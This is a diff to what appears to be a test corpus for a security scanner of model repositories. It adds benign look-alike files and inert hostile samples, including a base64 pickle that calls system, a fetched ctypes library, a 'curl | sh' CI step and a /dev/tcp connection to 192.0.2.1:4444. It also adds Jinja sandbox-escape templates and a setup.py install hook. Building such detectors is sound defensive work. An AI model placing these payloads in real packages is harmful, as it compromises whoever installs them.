@@ -67,6 +67,27 @@ ATTACKS = {
 }
 
 
+# What packages of Python have beside their models, each as a package in use has it.
+PACKAGE = {
+    "library": ("waagnet/core.py", b'import ctypes\nimport os\n\n\ndef find():\n    here = os.path.dirname(os.path.abspath(__file__))\n    return [os.path.join(here, "lib", "libwaagnet.so")]\n\n\nlib = ctypes.cdll.LoadLibrary(find()[0])\nlib.Register(1)\nlib.LastError.restype = ctypes.c_char_p\n', "a package that loads its own library"),
+    "browser": ("waagnet/login.py", b'import webbrowser\n\nimport requests\n\n\ndef login(endpoint):\n    answer = requests.post(endpoint).json()\n    webbrowser.open_new_tab(answer["uri"])\n', "a login that opens a page"),
+    "transfer": ("waagnet/transfer.py", b'import base64\nimport pickle\n\n\ndef load(value):\n    return pickle.loads(base64.b64decode(value))\n', "a pickle that arrives as text"),
+    "test-pickle": ("tests/test_old.py", b'import pickle\n\n\ndef test_old():\n    data = b"cnumpy\\ndtype\\np0\\n(S\'M8\'\\np1\\nI0\\nI1\\ntp2\\nRp3\\n."\n    assert pickle.loads(data)\n', "a test that reads an old pickle of a type"),
+    "generator": ("tools/generate.py", b'import sys\n\n\ndef render(rows):\n    lines = []\n    for row in rows:\n        lines.append(f"print({row!r})")\n    exec(compile("\\n".join(lines), "template", "exec"))\n\n\nif __name__ == "__main__":\n    render(sys.argv)\n', "a generator of code"),
+    "banned": ("waagnet/serde.py", b"banned = [\n    eval,\n    exec,\n    compile,\n    open,\n]\n\n\ndef decode(kind):\n    if kind in banned:\n        raise ValueError(kind)\n    return kind\n", "a list of what must not be called"),
+    "version": ("tests/test_java.py", b"import subprocess\n\n\ndef has_java():\n    return subprocess.run(['java', '-version']).returncode == 0\n\n\nJAVA = has_java()\n", "a test that asks for a program's version"),
+    "handler": ("waagnet/handler.py", b"class tf_op:\n    _handlers = {}\n\n    def __init__(self, name):\n        self.name = name\n", "a module that is called handler"),
+    "cython": ("waagnet/inner.pyx", b"#!/usr/bin/env cython\n# cython: boundscheck=False\nimport numpy as np\n", "Cython that names its interpreter"),
+    "makefile": ("Makefile", b"#!/usr/bin/make -f\nall:\n\tpython -m build\n", "a Makefile that names its interpreter"),
+    "bin": ("bin/track", b"#!/usr/bin/env python\nfrom waagnet import main\n\nmain()\n", "a program without an ending"),
+    "circleci": (".circleci/config.yml", b'version: 2.1\njobs:\n  test:\n    steps:\n      - run:\n          name: coverage\n          command: |\n            curl -Os https://uploader.codecov.io/latest/linux/codecov\n            chmod +x codecov\n            ./codecov\n', "a build that makes a program executable"),
+    "probe": ("tests/rpc.sh", b'#!/bin/bash\nfor i in 1 2 3; do\n  if (exec 3<>"/dev/tcp/127.0.0.1/$port") 2>/dev/null; then\n    exit 0\n  fi\ndone\n', "a test that waits for a port of this machine"),
+    "sphinx-class": ("docs/_templates/autosummary/class.rst", b'{% extends "!autosummary/class.rst" %}\n{% block methods %}\n{% for item in all_methods %}\n{%- if not item.startswith(\'_\') or item in [\'__call__\', \'__mul__\'] %}\n   {{ name }}.{{ item }}\n{%- endif %}\n{%- endfor %}\n{% endblock %}\n', "a template of Sphinx"),
+    "sphinx-layout": ("docs/_templates/layout.html", b'{% extends "!layout.html" %}\n{% block footer %}{{ super() }}{% include "about.html" %}{% endblock %}\n', "a page of Sphinx"),
+    "dockerfile": ("deploy/base.j2", b'{% import "_macros.j2" as common %}\n{% set __cuda__ = options.cuda | default(False) -%}\nFROM {{ options.image }}\n{% if __cuda__ %}\nENV NVIDIA_VISIBLE_DEVICES=all\n{% endif %}\n', "a template of an image"),
+}
+
+
 def notebook(*cells: object, outputs: list | None = None) -> bytes:
     made = [{"cell_type": "code", "execution_count": 1, "metadata": {}, "outputs": outputs or [], "source": [line + "\n" for line in str(cell).split("\n")]} if not isinstance(cell, dict) else cell for cell in cells]
     return js({"cells": made, "metadata": {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}}, "nbformat": 4, "nbformat_minor": 5})
@@ -82,6 +103,18 @@ def code() -> Shelf:
         add(f"python-{id}", {"modeling_extra.py": source}, f"Python with a payload: {id}")
     for id in ("os-system", "exec-base64", "reverse-shell"):
         shelf.bad(f"alone-{id}", ATTACKS[id], f"a file of Python with a payload: {id}", name="load_model.py", expect="not-allow")
+    # The other side of what packages have (see PACKAGE below).
+    payload = "gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAR0cnVllIWUUpQu"
+    for id, source in (("ctypes-temporary", b"import ctypes, tempfile\npath = tempfile.mktemp('.so')\nctypes.CDLL(path)\n"), ("ctypes-fetched", b"import ctypes, urllib.request\nurllib.request.urlretrieve('http://example.invalid/x', path)\nctypes.CDLL(path)\n"), ("ctypes-c", b"import ctypes\nctypes.CDLL(None).system(b'echo waag-inert')\n"),
+                       ("pickle-handed", f"import pickle, base64\n\n\ndef load(value):\n    return pickle.loads(base64.b64decode(value))\n\n\nload('{payload}')\n".encode()), ("pickle-literal", b"import pickle\npickle.loads(b\"cposix\\nsystem\\n(S'echo waag-inert'\\ntR.\")\n"),
+                       ("joined-lines", b"exec('\\n'.join(['import os', 'os.system(\"echo waag-inert\")']))\n"), ("list-called", b"run = [\n    eval,\n    exec,\n]\nfor f in run:\n    f('1')\n")):
+        add(f"python-{id}", {"extra.py": source}, f"Python with a payload: {id}")
+    add("setup-py-script", {"setup.py": b"import subprocess\nfrom setuptools import setup\nsubprocess.check_call(['./echo-waag-inert.sh'])\nsetup(name='waag')\n"}, "a setup.py that runs a script")
+    add("endpoint-handler", {"handler.py": b"class EndpointHandler:\n    def __init__(self, path=''):\n        self.path = path\n"}, "a handler of its own, which an endpoint runs")
+    add("probe-elsewhere", {"run.sh": b"#!/bin/bash\nexec 3<>/dev/tcp/192.0.2.1/4444\n"}, "a shell that connects elsewhere", "deny")
+    add("document-escape", {"docs/layout.html": b'{% extends "a.html" %}{{ x.__class__.__mro__[1].__subclasses__() }}'}, "a page that leaves its sandbox", "deny")
+    add("document-attr", {"docs/layout.html.j2": b'{% extends "a.html" %}{{ x | attr("__class__") }}'}, "a page that asks for an attribute by text", "deny")
+    add("circleci-download", {".circleci/config.yml": b"version: 2.1\njobs:\n  test:\n    steps:\n      - run:\n          name: x\n          command: curl -s http://example.invalid/x | sh\n"}, "a build that fetches and runs")
     add("setup-py", {"setup.py": b"from setuptools import setup\nfrom setuptools.command.install import install\nimport os\n\n\nclass Install(install):\n    def run(self):\n        os.system('echo waag-inert')\n\n\nsetup(name='waag', cmdclass={'install': Install})\n"}, "a setup.py that runs a command on install")
     add("pyproject-backend", {"pyproject.toml": b'[build-system]\nrequires = []\nbuild-backend = "evil"\nbackend-path = ["."]\n', "evil.py": ATTACKS["os-system"]}, "a build backend of its own")
     add("conftest", {"conftest.py": ATTACKS["os-system"]}, "a conftest that pytest runs")
@@ -218,6 +251,8 @@ def good() -> Shelf:
     add("example-keys", {"README.md": README + b"\nSet `HF_TOKEN=hf_...` and `OPENAI_API_KEY=sk-...` first.\n", "config.json": js({"model_type": "llama", "token": "hf_" + "x" * 34, "key": "ghp_" + "yourTokenHere" * 3})}, "placeholders of credentials")
     add("onnx-beside", {"onnx/model.onnx": onnx_model()}, "an ONNX export beside the weights")
     add("script", {"scripts/train.sh": b"#!/bin/sh\nset -e\npython train.py --epochs 3\n"}, "an ordinary shell script")
+    for id, (name, source, why) in PACKAGE.items():
+        add(f"package-{id}", {name: source}, why)
     shelf.good("notebook", notebook("import numpy as np\nx = np.arange(3)", {"cell_type": "markdown", "metadata": {}, "source": ["# Demo\n", "Never `eval()` this."]}, "print(x.sum())"), "an ordinary notebook", name="demo.ipynb")
     shelf.good("notebook-shell", notebook("!pip install -q torch", "!ls -l", "!nvidia-smi", "%%bash\nmkdir -p out\necho done", "import pickle\nx = pickle.load(open('x.pkl', 'rb'))", "import os\nos.system('python train.py')"), "a notebook that installs, lists and loads", name="demo.ipynb")
     shelf.good("notebook-outputs", notebook("x", outputs=[{"output_type": "execute_result", "execution_count": 1, "data": {"text/plain": ["array([0, 1])"], "image/png": "iVBORw0KGgo="}, "metadata": {}}]), "a notebook with a picture", name="demo.ipynb")
